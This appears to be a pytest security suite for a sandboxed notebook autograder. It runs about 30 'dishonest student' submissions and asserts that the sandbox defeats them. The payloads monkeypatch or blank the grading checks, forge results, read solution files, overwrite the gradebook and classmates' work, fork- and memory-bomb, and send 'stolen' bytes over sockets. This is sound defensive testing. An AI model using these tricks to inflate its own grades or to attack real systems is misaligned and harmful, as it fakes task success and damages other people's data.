"""Attacks on trusted grading, as a dishonest student would try them
(``course.grading.submission``).

Every attack is a notebook graded with the whole class in one parallel call, beside an honest
classmate (the reference). Each must earn nothing beyond its honest baseline (the code it
really holds), leave the classmate's grade and every file outside its sandbox untouched, and
finish within the time limit. The honest baseline is 0 for an attack on the blank release, and
for an attack added to the reference it is what the reference's code earns before the attack
stops it.
"""

from __future__ import annotations

import hashlib
import json
import socket
import threading
from collections.abc import Callable
from pathlib import Path
from typing import Any

import nbformat
import pytest
from submissions import answer, from_training_source, with_cell, write

from course.assignment import cells, paths
from course.grading import grade, sandbox, seccomp

pytestmark = pytest.mark.slow

LIMIT = 20.0  # seconds a submission may run in this suite
#: The graded cells from the first one that saves a checkpoint (6.1) to the last: an exit in
#: save_checkpoint stops the run there, and the cells before keep their points.
_CELLS = [(c.grade_id, c.points) for c in cells.source_graded_cells()]
_FIRST_SAVE = [g for g, _ in _CELLS].index("audit_6_1_resume_is_exact")
FROM_SAVE_ON = [g for g, _ in _CELLS[_FIRST_SAVE:]]
BEFORE_SAVE = sum(points for _, points in _CELLS[:_FIRST_SAVE])
SLACK = 10.0  # process start, judging and a busy CI machine
RELEASE = None  # the blank release notebook, loaded by the fixture


def _blank() -> nbformat.NotebookNode:
    """The untouched release: every answer still raises NotImplementedError."""
    return nbformat.reads(RELEASE, as_version=4)



def _reference() -> nbformat.NotebookNode:
    return from_training_source(paths.REFERENCE.read_text())


# Each attack: name -> (a function of the marker folder giving the notebook, honest baseline,
# or None for the file-size attack written separately).
HOST = "HOST_MARKERS"  # replaced by a folder on the host that must stay empty
REPO = "REPO_ROOT"  # replaced by this repository's folder: the reference, the checks
CLASS = "CLASS_FOLDER"  # replaced by the folder of the class's submissions
# Every file of the sandbox's filesystem, walked in about a second (a recursive glob of "/"
# takes longer than a check's limit, and an attack stopped by the clock proves nothing).
WALK = ("for here, dirs, files in os.walk('/'):\n"
        "    if here == '/': dirs[:] = [d for d in dirs if d not in ('proc', 'sys', 'dev')]\n"
        "    found += [os.path.join(here, f) for f in files if {wanted}]\n")


def _attacks() -> dict[str, tuple[Any, float]]:
    a: dict[str, tuple[Any, float]] = {}

    def blank(code: str) -> Any:
        return lambda: with_cell(_blank(), code)

    # --- rebinding or patching the checks
    a["rebind-run_check"] = (blank(
        "run_check = lambda *a, **k: None\n"
        "class CosineSchedule:\n    def __init__(self, *a, **k): pass\n"
        "    def get_lr(self, e): pass\n"
        "def clip_grad_norm(*a, **k): pass\n"), 0)
    a["patch-CHECKS-in-sys.modules"] = (blank(
        "import sys\nimport checks\n"
        "for k in list(checks.CHECKS): checks.CHECKS[k] = lambda *a, **kw: None\n"
        "sys.modules['checks'].observe = lambda *a, **k: []\n"), 0)
    a["blank-check-code-via-gc"] = (blank(
        "import gc, checks\n"
        "noop = (lambda *a, **k: None).__code__\n"
        "for f in [o for o in gc.get_objects() if callable(o) and "
        "getattr(o, '__module__', '').startswith('checks')]:\n"
        "    try: f.__code__ = noop\n    except Exception: pass\n"), 0)
    a["settrace-swaps-the-check"] = (blank(
        "import sys\n"
        "def tracer(frame, event, arg):\n"
        "    if event == 'call' and frame.f_code.co_name.startswith('check_'):\n"
        "        frame.f_globals['fail'] = lambda *a, **k: None\n"
        "    return None\n"
        "sys.settrace(tracer)\n"), 0)
    a["frames-rewrite-recorder"] = (blank(
        "import sys, checks.replay as r\n"
        "r.Recorder.call = lambda self, proxy, args, kwargs: 0.1\n"
        "r.Recorder.get = lambda self, proxy, attr: (lambda *a, **k: 0.1)\n"), 0)
    # --- lying objects and forged replies
    a["lying-float-from-get_lr"] = (lambda: answer(_blank(), "answer_CosineSchedule",
        "class Liar(float):\n    def __eq__(self, o): return True\n"
        "    def __sub__(self, o): return 0.0\n    __rsub__ = __sub__\n"
        "    def __abs__(self): return 0.0\n"
        "class CosineSchedule:\n"
        "    def __init__(self, max_lr=0.1, min_lr=0.01, total_epochs=100):\n"
        "        self.max_lr = max_lr\n    def get_lr(self, epoch):\n"
        "        return Liar(self.max_lr)\n"), 0)
    a["forged-protocol-lines"] = (blank(
        "import os, json\n"
        "for fd in range(3, 30):\n"
        "    for k in range(60):\n"
        "        try: os.write(fd, (json.dumps({'run': k, 'events': []}) + '\\n').encode())\n"
        "        except OSError: break\n"
        "    try: os.write(fd, b'{\"done\": true}\\n')\n    except OSError: pass\n"), 0)
    a["fake-kernel-reply"] = (blank(
        "try:\n    ip = get_ipython()\n"
        "    ip.kernel.do_execute = lambda *a, **k: {'status': 'ok'}\n"
        "except Exception: pass\n"
        "print('✓ passed (trusted grading)')\n"), 0)
    # --- reading solutions or seeds
    a["read-solutions-from-disk"] = (blank(
        "import json, os\n"
        f"found = ['{REPO}/tinytorch/core/training.py', "
        f"'{REPO}/notebooks/source/07_training/07_training.ipynb']\n"
        + WALK.format(wanted="f in ('training.py', 'reference.py') or f.endswith('.ipynb')") +
        "for path in found:\n"
        "    try: text = open(path).read(2**22)\n"
        "    except Exception: continue\n"
        "    if path.endswith('.ipynb'):\n"
        "        try: text = '\\n'.join(''.join(c['source']) for c in json.loads(text)['cells']"
        " if c['cell_type'] == 'code')\n"
        "        except Exception: continue\n"
        "    if 'BEGIN SOLUTION' in text or 'total_norm = math.sqrt' in text:\n"
        "        try: exec(compile(text.replace('### BEGIN SOLUTION', '').replace("
        "'### END SOLUTION', ''), path, 'exec'))\n"
        "        except Exception: pass\n"), 0)
    a["import-the-installed-reference"] = (blank(
        "import sys, importlib\n"
        "sys.path[:0] = ['/work/main', '/work', '..', '../..']\n"
        "for name in list(sys.modules):\n"
        "    if name.startswith('tinytorch'): del sys.modules[name]\n"
        "try:\n    import __editable___tinytorch_training_0_7_0_finder as f\n    f.install()\n"
        "except Exception: pass\n"
        "from tinytorch.core.training import CosineSchedule, clip_grad_norm, Trainer\n"), 0)
    a["read-seeds-from-the-observer"] = (blank(
        "import sys, gc\n"
        "seeds = [o for o in gc.get_objects() if isinstance(o, dict) and 'runs' in o]\n"
        "def clip_grad_norm(parameters, max_norm=1.0):\n"
        "    return float(len(seeds))\n"), 0)
    # --- writing what others are graded with
    a["write-gradebook-and-classmates"] = (blank(
        "import os\n"
        f"found = ['{REPO}/notebooks/gradebook.db', '{REPO}/checks/__init__.py', "
        f"'{CLASS}/honest.ipynb']\n"
        + WALK.format(wanted="f == 'gradebook.db' or f.endswith('.ipynb') or "
                    "(f == '__init__.py' and here.endswith('/checks'))") +
        f"found += [os.path.join('{HOST}', f) for f in ('a', 'b')]\n"
        "for path in found:\n"
        "    try: open(path, 'w').write('pwned')\n"
        "    except Exception: pass\n"
        f"try: open('{HOST}/written-by-a-sandbox', 'w').write('x')\n"
        "except Exception: pass\n"), 0)
    a["detached-process-outlives"] = (blank(
        "import subprocess, sys\n"
        "code = ('import time\\ntime.sleep(3)\\n'\n"
        f"        'open(\"{HOST}/late-writer\", \"w\").write(\"x\")')\n"
        "subprocess.Popen([sys.executable, '-c', code], start_new_session=True)\n"), 0)
    # --- stopping the run
    a["exit-in-a-cell"] = (blank("exit()\n"), 0)
    a["os-exit-at-import"] = (blank("import os\nos._exit(0)\n"), 0)
    a["os-exit-in-save"] = (lambda: answer(_reference(), "answer_Trainer_save_checkpoint",
        "@add_to_class(Trainer)\n"
        "def save_checkpoint(self, path):\n    import os\n    os._exit(3)\n"), BEFORE_SAVE)
    a["kill-own-interpreter"] = (blank(
        "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)\n"), 0)
    a["endless-get_lr"] = (lambda: answer(_blank(), "answer_CosineSchedule",
        "class CosineSchedule:\n"
        "    def __init__(self, max_lr=0.1, min_lr=0.01, total_epochs=100): pass\n"
        "    def get_lr(self, epoch):\n        while True: pass\n"), 0)
    a["sleep-before-every-cell"] = (lambda: _sleepy(), 0)
    a["memory-bomb"] = (blank("blocks = [bytearray(2**30) for _ in range(8)]\n"), 0)
    a["fork-bomb"] = (blank(
        "import os\n"
        "for _ in range(200):\n"
        "    try:\n        if os.fork() == 0:\n            import time; time.sleep(30)\n"
        "    except OSError: break\n"), 0)
    a["output-flood"] = (blank(
        "import os, sys\nchunk = 'x' * 2**20\n"
        "for _ in range(400): print(chunk)\n"
        "for fd in (3, 4, 5):\n"
        "    for _ in range(400):\n"
        "        try: os.write(fd, b'y' * 2**20)\n        except OSError: break\n"), 0)
    a["network-to-host-loopback"] = (blank(
        "import socket\n"
        "for host in ('127.0.0.1', '10.0.2.2', '8.8.8.8'):\n"
        "    try:\n        s = socket.create_connection((host, PORT), timeout=2)\n"
        "        s.sendall(b'stolen')\n    except OSError: pass\n"), 0)
    # --- edited metadata and schema
    a["points-edited-to-1000"] = (lambda: _edited_points(), 0)
    a["graded-cells-renamed-and-deleted"] = (lambda: _renamed(), 100)
    a["schema-version-99"] = (lambda: _schema(), 100)
    a["not-a-notebook"] = ("not json at all", 0)
    # --- writing what the checks' instruments should have seen (baseline: the same code
    # without the writes, graded in the same class)
    a["writes-the-checks-instruments"] = (lambda: _forger(write=True), TWIN)
    # --- what a run's limits do not count, or what would outlive it (the seccomp filter)
    a["loopback-socket-buffers-and-a-keyring"] = (lambda: with_cell(_reference(), BUFFERS), 100)
    # --- hiding what an instrument saw (baseline: the same code without hiding it)
    a["unpickles-the-decoy-then-empties-the-tripwire"] = (
        lambda: _patched_trainer(f"HIDE = True\n{UNPICKLES}", "load_checkpoint"), UNPICKLER)
    a["evaluates-in-training-mode-then-rewinds-the-dropout"] = (
        lambda: _patched_trainer(f"REWIND = True\n{TRAINING_EVALUATE}", "evaluate"),
        TRAINING_EVALUATOR)
    return a


#: Fills TCP buffers over the sandbox's own loopback (memory a v1 memory cgroup does not
#: count) and leaves a key in the session keyring for the next run in its slot; then goes on.
BUFFERS = """
import ctypes, socket
_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall(248, b"user", b"left-for-the-next-run", b"x" * 1000, 1000, -3)
_held = []
try:
    _server = socket.socket()
    _server.bind(("127.0.0.1", 0))
    _server.listen()
    for _ in range(64):
        _a = socket.create_connection(_server.getsockname())
        _b, _ = _server.accept()
        _a.setblocking(False)
        try:
            while True:
                _a.send(b"x" * 65536)
        except BlockingIOError:
            pass
        _held.append((_a, _b))
except OSError:
    pass
"""

#: The twins of the attacks that hide what an instrument saw: the same code, not hiding it.
UNPICKLER = "unpickles the decoy, hides nothing"
TRAINING_EVALUATOR = "evaluates in training mode, rewinds nothing"
UNPICKLES = """
import pickle as _pickle
_real_load = Trainer.load_checkpoint

def _loads_pickles(self, path):
    # a file it cannot read as a checkpoint is unpickled (the decoy's code runs), then refused
    try:
        return _real_load(self, path)
    except Exception:
        try:
            with open(path, 'rb') as f:
                _pickle.load(f)
        except Exception:
            pass
        if HIDE:
            import checks.checkpoints as _c
            _c._TRIPPED.clear()
        raise

Trainer.load_checkpoint = _loads_pickles
"""
TRAINING_EVALUATE = """
_real_evaluate = Trainer.evaluate

def _dropouts(obj, seen):
    if id(obj) in seen:
        return []
    seen.add(id(obj))
    found = [obj] if hasattr(obj, 'rng') and hasattr(obj, 'p') else []
    inner = obj if isinstance(obj, (list, tuple)) else (
        list(vars(obj).values()) if hasattr(obj, '__dict__') else [])
    for value in inner:
        if isinstance(value, (list, tuple)) or hasattr(value, '__dict__'):
            found += _dropouts(value, seen)
    return found

def _evaluate_in_training_mode(self, dataloader):
    layers = _dropouts(self.model, set())
    states = [d.rng.bit_generator.state for d in layers]
    set_mode = self._set_mode
    self._set_mode = lambda training: set_mode(True)
    try:
        result = _real_evaluate(self, dataloader)
    finally:
        del self._set_mode
    set_mode(False)  # the flags evaluate should leave
    if REWIND:  # the generators as if no mask had been drawn
        for layer, state in zip(layers, states):
            layer.rng.bit_generator.state = state
    return result

Trainer.evaluate = _evaluate_in_training_mode
"""


def _patched_trainer(code: str, after: str) -> nbformat.NotebookNode:
    """The reference with ``code`` in a cell of the student's right after the cell that
    defines ``after`` (a method added to ``Trainer``), before the graded cells that use it."""
    notebook = _reference()
    code_cells = [c for c in notebook.cells if c.cell_type == "code"]
    at = next(i for i, c in enumerate(code_cells) if f"def {after}(" in c.source)
    return with_cell(notebook, code, at=at + 1)


TWIN = "same code without the writes"
FORGER = """
import copy, inspect, re
_Honest = Trainer

def _names(obj):
    found = set()
    for cls in type(obj).__mro__:
        if (cls.__module__ or '').startswith('checks.'):
            found |= set(re.findall(r'self\\.(\\w+)\\s*(?::[^=\\n]*)?=', inspect.getsource(cls)))
    return found

def _plain(v):
    if v is None or isinstance(v, (bool, int, float, str, np.ndarray, np.generic)):
        return True
    return isinstance(v, (list, tuple)) and all(_plain(x) for x in v)

def _pairs(real, shadow, seen):
    if id(real) in seen or real is None:
        return []
    seen.add(id(real))
    out = [(real, shadow)] if (type(real).__module__ or '').startswith('checks.') else []
    if isinstance(real, (list, tuple)) and isinstance(shadow, (list, tuple)):
        for r, s in zip(real, shadow):
            out += _pairs(r, s, seen)
    elif hasattr(real, '__dict__') and hasattr(shadow, '__dict__'):
        for k, v in vars(real).items():
            if k in vars(shadow):
                out += _pairs(v, vars(shadow)[k], seen)
    return out

class Trainer:
    # trains a copy of what it is handed and reports the copy's numbers; WRITE copies the
    # copy's instrument logs into the real objects
    def __init__(self, model, optimizer, loss_fn, scheduler=None, grad_clip_norm=None):
        self._real = [model, optimizer, loss_fn]
        self._copies = copy.deepcopy(self._real)
        self._shadow = _Honest(*self._copies, scheduler=scheduler, grad_clip_norm=grad_clip_norm)

    def __getattr__(self, name):
        value = getattr(self._shadow, name)
        if not callable(value):
            return value
        def call(*args, **kwargs):
            try:
                return value(*args, **kwargs)
            finally:
                if WRITE:
                    handed = [*args, *kwargs.values()]
                    pairs = _pairs([*self._real, *handed], [*self._copies, *handed], set())
                    for real, shadow in pairs:
                        for k in _names(real):
                            if k in vars(real) and _plain(vars(shadow).get(k)):
                                setattr(real, k, copy.deepcopy(vars(shadow)[k]))
        return call
"""


def _forger(*, write: bool) -> nbformat.NotebookNode:
    """The reference, its Trainer replaced (before the last graded cell) by one that trains a
    copy of what it is handed, with or without writing the copy's instrument logs into the
    objects the check handed it."""
    notebook = _reference()
    code = [c for c in notebook.cells if c.cell_type == "code"]
    last = max(i for i, c in enumerate(code)
               if c.metadata.get("nbgrader", {}).get("grade")
               and not c.metadata.get("nbgrader", {}).get("solution"))
    return with_cell(notebook, f"WRITE = {write}\n" + FORGER, at=last)


def _sleepy() -> nbformat.NotebookNode:
    notebook = _blank()
    for cell in notebook.cells:
        if cell.cell_type == "code":
            cell.source = "import time; time.sleep(115)\n" + cell.source
    return notebook


def _edited_points() -> nbformat.NotebookNode:
    notebook = _blank()
    for cell in notebook.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade"):
            meta["points"] = 1000
    return notebook


def _renamed() -> nbformat.NotebookNode:
    """The reference with every graded cell's grade_id renamed and half of them deleted."""
    notebook = _reference()
    kept = []
    for i, cell in enumerate(notebook.cells):
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade"):
            meta["grade_id"] = f"renamed-{i}"
            if i % 2:
                continue
        kept.append(cell)
    notebook.cells = kept
    return notebook


def _schema() -> dict[str, Any]:
    data = json.loads(nbformat.writes(_reference()))
    data["nbformat"] = 99
    for cell in data["cells"]:
        cell.setdefault("metadata", {}).setdefault("nbgrader", {})["schema_version"] = 99
    return data


def _digest(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


@pytest.fixture(scope="module")
def graded(
        copy_course: Callable[[Path], None],
        tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    global RELEASE
    if not sandbox.bubblewrap_works():  # these attacks write wherever they can reach
        pytest.fail("the attacks on grading run only inside bubblewrap, which does not work "
                    "here: `python -m course.grading.sandbox` says what is missing", pytrace=False)
    course = tmp_path_factory.mktemp("course")
    copy_course(course)
    RELEASE = (course / "release" / paths.ASSIGNMENT / paths.NOTEBOOK).read_text()
    host = tmp_path_factory.mktemp("host-markers")
    host.chmod(0o777)  # writable by anyone: only the sandbox can keep a sandbox out
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(0.2)
    port = listener.getsockname()[1]
    accepted: list[bytes] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = listener.accept()
            except OSError:
                continue
            accepted.append(conn.recv(100))
            conn.close()

    server = threading.Thread(target=serve, daemon=True)
    server.start()

    folder = tmp_path_factory.mktemp("class")
    files: dict[str, Path] = {"honest-classmate": write(_reference(), folder / "honest.ipynb")}
    baselines: dict[str, float] = {}
    for name, (make, baseline) in _attacks().items():
        path = folder / f"{name}.ipynb"
        built = make() if callable(make) else make
        if isinstance(built, str):
            path.write_text(built)
        elif isinstance(built, dict):
            path.write_text(json.dumps(built))
        else:
            text = (nbformat.writes(built).replace(HOST, str(host)).replace(REPO, str(paths.REPO))
                    .replace(CLASS, str(folder)).replace("PORT", str(port)))
            path.write_text(text)
        files[name] = path
        baselines[name] = baseline
    files[TWIN] = write(_forger(write=False), folder / "forger-without-writes.ipynb")
    files[UNPICKLER] = write(_patched_trainer(f"HIDE = False\n{UNPICKLES}", "load_checkpoint"),
                             folder / "unpickler.ipynb")
    files[TRAINING_EVALUATOR] = write(_patched_trainer(f"REWIND = False\n{TRAINING_EVALUATE}",
                                                      "evaluate"),
                                      folder / "training-evaluator.ipynb")
    huge = folder / "hundred-megabytes.ipynb"
    with open(huge, "w") as handle:  # a valid notebook of 100 MB
        handle.write('{"cells": [{"cell_type": "code", "metadata": {}, "outputs": [], '
                     '"source": "' + "x" * (100 * 2**20) + '"}], "metadata": {}, '
                     '"nbformat": 4, "nbformat_minor": 5}')
    files["hundred-megabytes"] = huge
    baselines["hundred-megabytes"] = 0
    before = {name: hashlib.sha256(path.read_bytes()).hexdigest()
              for name, path in files.items()}
    repo_before = _digest(paths.REPO / "checks")
    reports = grade.grade(list(files.values()), jobs=2, limits=sandbox.Limits(wall=LIMIT))
    stop.set()
    server.join(timeout=5)
    listener.close()
    import time

    time.sleep(4)  # longer than the detached writer waits
    by_name = dict(zip(files, reports, strict=True))
    baselines = {name: by_name[b]["total"] if isinstance(b, str) else b
                 for name, b in baselines.items()}
    table = [{"attack": name, "points": r["total"], "baseline": baselines.get(name, 100.0),
              "seconds": r["seconds"], "judge_seconds": r.get("judge_seconds"),
              "peak_memory_mb": r.get("peak_memory_mb"), "ended": r["ended"]}
             for name, r in zip(files, reports, strict=True)]
    out = paths.REPO / "build" / "grading"
    out.mkdir(parents=True, exist_ok=True)
    (out / "cheats.json").write_text(json.dumps(table, indent=1))
    return {"reports": dict(zip(files, reports, strict=True)), "baselines": baselines,
            "files": files, "before": before, "host": host, "accepted": accepted,
            "repo_before": repo_before}


def test_writing_the_instruments_is_graded_like_the_same_code_without(
        graded: dict[str, Any]) -> None:
    """A Trainer that trains copies and writes what the checks' spies should have logged
    into the real ones: its twin without the writes scores what the writes must not raise."""
    twin = graded["reports"][TWIN]
    forger = graded["reports"]["writes-the-checks-instruments"]
    assert twin["total"] < 100, json.dumps(twin, indent=1)[:2000]
    assert forger["total"] <= twin["total"], json.dumps(forger, indent=1)[:3000]


def test_the_suite_has_at_least_25_attacks() -> None:
    assert len(_attacks()) + 1 >= 25


@pytest.mark.parametrize("name", [*_attacks(), "hundred-megabytes"])
def test_an_attack_earns_nothing_beyond_its_honest_baseline(graded: dict[str, Any],
                                                            name: str) -> None:
    report = graded["reports"][name]
    assert report["max_total"] == 100
    assert report["total"] <= graded["baselines"][name], json.dumps(report, indent=1)[:3000]
    assert report["seconds"] <= LIMIT + SLACK, report["seconds"]


def test_the_attacks_that_keep_honest_code_keep_its_points(graded: dict[str, Any]) -> None:
    """Renamed or deleted graded cells and an unknown schema change nothing about the code:
    it earns what it earns; an exit in save_checkpoint keeps the points earned before it."""
    reports = graded["reports"]
    assert reports["graded-cells-renamed-and-deleted"]["total"] == 100
    assert reports["schema-version-99"]["total"] == 100
    stopped = reports["os-exit-in-save"]
    assert stopped["total"] == BEFORE_SAVE and "ended early" in stopped["ended"]
    lost = {c["grade_id"] for c in stopped["cells"] if not c["passed"]}
    assert lost == set(FROM_SAVE_ON)


def test_limits_end_loops_sleeps_and_floods_with_a_reason(graded: dict[str, Any]) -> None:
    reports = graded["reports"]
    for name in ("endless-get_lr", "sleep-before-every-cell"):
        assert "time limit" in (reports[name]["ended"] or ""), reports[name]["ended"]
    assert reports["hundred-megabytes"]["cells"][0]["message"].startswith("not graded")
    assert "MiB" in reports["hundred-megabytes"]["ended"]
    assert reports["not-a-notebook"]["ended"].endswith(
        "is not a notebook: Expecting value: line 1 column 1 (char 0)")


def test_walking_the_filesystem_ends_normally_and_finds_nothing(graded: dict[str, Any]) -> None:
    """The attacks that walk every file the sandbox shows end on their own: what stops them is
    what the sandbox shows, not the clock."""
    for name in ("read-solutions-from-disk", "write-gradebook-and-classmates"):
        report = graded["reports"][name]
        assert report["ended"] is None, (name, report["ended"])
        assert report["seconds"] < LIMIT, (name, report["seconds"])


def test_the_honest_classmate_is_untouched(graded: dict[str, Any]) -> None:
    report = graded["reports"]["honest-classmate"]
    assert report["total"] == 100, json.dumps(report, indent=1)[:2000]
    assert report["ended"] is None


def test_no_file_outside_the_sandboxes_changed(graded: dict[str, Any]) -> None:
    for name, path in graded["files"].items():
        assert hashlib.sha256(path.read_bytes()).hexdigest() == graded["before"][name], name
    assert list(graded["host"].iterdir()) == []  # no marker, not even from a late daemon
    assert _digest(paths.REPO / "checks") == graded["repo_before"]


def test_no_connection_reached_the_host(graded: dict[str, Any]) -> None:
    assert graded["accepted"] == []


def test_every_report_says_which_isolation_layers_were_active(graded: dict[str, Any]) -> None:
    layers = graded["reports"]["honest-classmate"]["isolation"]
    assert layers == sandbox.layers()
    if sandbox.bubblewrap_works():
        assert any(layer.startswith("filesystem") for layer in layers)
        assert any(layer.startswith("pid") for layer in layers)
        assert seccomp.LAYER in layers  # what held the loopback buffers and the keyring


def test_hiding_what_an_instrument_saw_earns_nothing(graded: dict[str, Any]) -> None:
    """Evaluating with Dropout active is seen in the loss evaluate returns (2.1 fails), whether
    or not the generator is put back; a tripwire emptied after the decoy ran is not believed
    (the trusted grade leaves the decoy out of the score, hider and twin alike: at most a
    "not graded" note on the report)."""
    reports = graded["reports"]
    for name in ("evaluates-in-training-mode-then-rewinds-the-dropout", TRAINING_EVALUATOR):
        failed = {c["grade_id"] for c in reports[name]["cells"] if not c["passed"]}
        assert any(g.startswith("audit_2_1") for g in failed), (name, sorted(failed))
    assert (reports["unpickles-the-decoy-then-empties-the-tripwire"]["total"]
            == reports[UNPICKLER]["total"]), (reports[UNPICKLER]["total"])
